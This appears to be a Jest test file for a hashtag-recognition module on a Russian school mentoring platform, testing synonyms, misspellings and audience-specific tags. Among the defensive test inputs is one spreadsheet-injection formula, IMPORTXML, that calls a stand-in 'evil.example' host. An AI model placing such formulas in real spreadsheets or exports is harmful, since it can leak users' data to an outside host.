import { shippedDictionary } from '../../src/tags/dictionary';
import { indexDictionary } from '../../src/tags/indexDictionary';
import { questionnaireOptions } from '../../src/tags/questionnaireOptions';
import { mergeRecognitions, recogniseTags } from '../../src/tags/recogniseTags';
import type { TagEntry } from '../../src/tags/tagEntry';

const index = indexDictionary(shippedDictionary);

describe('options', () => {
  test.each(questionnaireOptions.map((option) => [option.caption, option] as const))(
    'the ready-made option «%s» gives exactly its tags, for the mentee and for the mentor',
    (caption, { audience, tags }) => {
      for (const reader of [audience, 'any'] as const) {
        const found = recogniseTags([caption], index, reader);
        expect(found).toMatchObject({ tags, unknown: [], doubtful: [] });
        expect(Object.values(found.origins)).toEqual(tags.map(() => 'option'));
      }
    },
  );

  test.each([
    ['Адаптация  в  классе', ['#адаптация']],
    ['АДАПТАЦИЯ В КЛАССЕ', ['#адаптация']],
    ['обновленные фгос, рабочие программы', ['#фгос', '#планирование_уроков']],
    ['матиматика', ['#математика']],
    ['матем', ['#математика']],
    ['мaтематика', ['#математика']],
    ['химия', ['#химия']],
    ['Биология', ['#биология']],
    ['химия,биология', ['#химия', '#биология']],
    ['бег', ['#спорт']],
    ['хочу в сборную школы', ['#спорт']],
    ['оформление проектов', ['#проекты']],
    ['Цифровые инструменты', ['#цифровые_инструменты']],
    ['#Математика', ['#математика']],
    ['#русский_язык #егэ', ['#русский_язык', '#егэ']],
    ['c++', ['#программирование']],
    ['Speaking', ['#английский_язык']],
    ['помощь', ['#волонтерство']],
  ])('recognises %j', (option, tags) => {
    expect(recogniseTags([option], index, 'any')).toMatchObject({ tags, unknown: [], doubtful: [] });
  });

  test.each(['Всё умею', '@mention', 'прыжки', '#несуществующий_тег', '{{ПРИКАЗ_НОМЕР}} $1 $& \\1', 'С'])(
    'puts %j into the inbox of unknown words as it was written',
    (option) => {
      expect(recogniseTags([option], index, 'p')).toMatchObject({ tags: [], unknown: [option], doubtful: [] });
    },
  );

  test.each([
    ['фисика', '#физика'],
    ['Програмирование', '#программирование'],
    ['робототехнка', '#робототехника'],
    ['#алимпиады', '#олимпиады'],
    ['англиский язык', '#английский_язык'],
  ])('proposes a tag for the misspelt %j and does not apply it', (word, suggestion) => {
    expect(recogniseTags([word], index, 'p')).toMatchObject({
      tags: [],
      unknown: [],
      doubtful: [{ word, suggestion }],
    });
  });

  test('an ambiguous synonym means what it means for its reader', () => {
    expect(recogniseTags(['овз'], index, 'p').tags).toEqual(['#особые_потребности']);
    expect(recogniseTags(['ОВЗ'], index, 't').tags).toEqual(['#работа_с_овз']);
    expect(recogniseTags(['не хватает времени'], index, 'p').tags).toEqual(['#тайм_менеджмент']);
    expect(recogniseTags(['не хватает времени'], index, 't').tags).toEqual(['#баланс_работы_и_жизни']);
    expect(recogniseTags(['овз'], index, 'any').tags).toEqual(['#особые_потребности', '#работа_с_овз']);
  });

  test('names close tags once and without those recognised', () => {
    expect(recogniseTags(['Математика', 'Подготовка к экзаменам (ОГЭ, ЕГЭ)'], index, 'p').close).toEqual([
      '#егэ',
      '#огэ',
      '#олимпиады',
      '#впр',
    ]);
  });

  test('nothing ticked gives nothing', () => {
    expect(recogniseTags(['', '  '], index, 'p')).toEqual({
      tags: [],
      origins: {},
      close: [],
      unknown: [],
      doubtful: [],
    });
  });
});

describe('running text', () => {
  test.each([
    ['Не понимаю дроби и проценты, стесняюсь отвечать у доски', ['#математика', '#уверенность_в_себе']],
    ['хочу научится писать игры на питоне', ['#программирование']],
    ['хочу научиться писать игры на Python', ['#программирование']],
    ['боюсь сочинений', ['#сочинение']],
    ['Готовлюсь к муниципальному этапу по физике.', ['#олимпиады', '#физика']],
    ['перешла из другой школы, никого не знаю', ['#адаптация']],
    ['ОГЭ по математике, хочу на 4', ['#огэ', '#математика']],
    ['новый класс после началки', ['#адаптация']],
    ['Индивидуальный проект: умная теплица на Arduino', ['#проекты', '#робототехника']],
    ['не могу выбрать между медициной и биотехом', ['#медицина']],
    ['двойки по русскому, пишу с ошибками', ['#успеваемость', '#русский_язык']],
    ['хочу вести школьное радио 🎙️🔥', ['#медиа']],
    ['Готовлюсь к ГТО', ['#гто']],
    ['не успеваю на контрольных', ['#успеваемость', '#впр']],
    ['английский 😭 неправильные глаголы', ['#английский_язык']],
    ['плохо говорю по русски, переехали летом', ['#русский_как_неродной', '#адаптация']],
    ['хочу на переводчика', ['#иностранные_языки']],
    ['помогите с геометрией', ['#математика']],
    ['ЕГЭ химия+биология, цель 85+', ['#егэ', '#химия', '#биология']],
    ['ссорюсь с одноклассниками', ['#конфликты']],
    ['подтянуть матешу к ВПР', ['#математика', '#впр']],
    ['🎨🎭🎹 люблю рисовать аниме 👩‍🎨', ['#рисование', '#дизайн']],
    ['Нужна помощь с задачами, поддержка родителей, лена из 5 класса, я прав', []],
    ['строка 1\nстрока 2\n"кавычки"; точка с запятой', []],
    ['=IMPORTXML("http://evil.example/";"//a")', []],
  ])('a pupil writes %j', (text, tags) => {
    const found = recogniseTags(text, index, 'p');
    expect([...found.tags].sort()).toEqual([...tags].sort());
    expect(Object.values(found.origins).every((origin) => origin === 'text')).toBe(true);
    expect(found.unknown).toEqual([]);
  });

  test.each([
    ['Первый свой 2 класс, трудно держать дисциплину', ['#дисциплина']],
    ['Нужна помощь с Моей школой и ФГИС, устала', ['#цифровые_инструменты', '#выгорание']],
    ['Хочу на первую категорию, нужна помощь с портфолио', ['#аттестация', '#портфолио']],
    [
      'дали классное руководство в 6 кл., не знаю с чего начать рабочие программы',
      ['#классное_руководство', '#планирование_уроков'],
    ],
  ])('a teacher writes %j', (text, tags) => {
    expect([...recogniseTags(text, index, 't').tags].sort()).toEqual([...tags].sort());
  });

  test('the longest synonym wins over shorter ones inside it', () => {
    expect(recogniseTags('контрольные работы', index, 't').tags).toEqual(['#оценивание']);
    expect(recogniseTags('итоговое собеседование', index, 's').tags).toEqual(['#огэ']);
  });

  test('a pupil’s prose never gives a teacher’s tag', () => {
    expect(recogniseTags('родители против, журнал не открывается', index, 'p').tags).toEqual([]);
  });

  test('synonyms match on word borders only', () => {
    expect(recogniseTags('бегемот, Вуздов, кодекс, хорошо, радиогруппа', index, 'p').tags).toEqual([]);
  });

  test('ordinary prose is neither unknown nor doubtful', () => {
    const prose =
      'Мне десять лет, я живу рядом со школой и очень хочу, чтобы мне кто-нибудь объяснил всё спокойно и без спешки. ' +
      'Мама говорит, что я способный, но рассеянный. По вторникам и четвергам свободен, в субботу уезжаем к дедушке. ' +
      'Почётная грамота, диплом второй степени, путешествия, походы и настольные игры.';
    expect(recogniseTags(prose, index, 'p')).toEqual({ tags: [], origins: {}, close: [], unknown: [], doubtful: [] });
  });

  test('a misspelt long word is proposed', () => {
    expect(recogniseTags('нужна помощь с олимпеадами', index, 'p')).toMatchObject({
      tags: [],
      doubtful: [{ word: 'олимпеадами', suggestion: '#олимпиады' }],
    });
  });

  test('a #hashtag in text counts as said on purpose, an unknown one goes to the inbox', () => {
    const found = recogniseTags('зовите на #робототехника, #квиддич и занял #1 место', index, 'p');
    expect(found).toMatchObject({
      tags: ['#робототехника'],
      origins: { '#робототехника': 'option' },
      unknown: ['#квиддич'],
    });
  });
});

test('an option outweighs the same tag from text', () => {
  const merged = mergeRecognitions(
    index,
    recogniseTags('люблю физику и шахматы', index, 'p'),
    recogniseTags(['Физика', 'прыжки'], index, 'p'),
  );
  expect(merged).toMatchObject({
    tags: ['#физика', '#шахматы'],
    origins: { '#физика': 'option', '#шахматы': 'text' },
    unknown: ['прыжки'],
  });
});

test('a dictionary changed by the curator is what counts', () => {
  const own: TagEntry[] = [
    { tag: '#прыжки', group: 'Спорт', audience: 'p', synonyms: ['прыжки в высоту'], close: [] },
    { tag: '#математика', group: 'Предметы', audience: 'p', synonyms: [], close: [] },
  ];
  const small = indexDictionary(own);
  expect(recogniseTags(['прыжки', 'Математика', 'Физика'], small, 'p')).toMatchObject({
    tags: ['#прыжки', '#математика'],
    unknown: ['Физика'],
  });
});
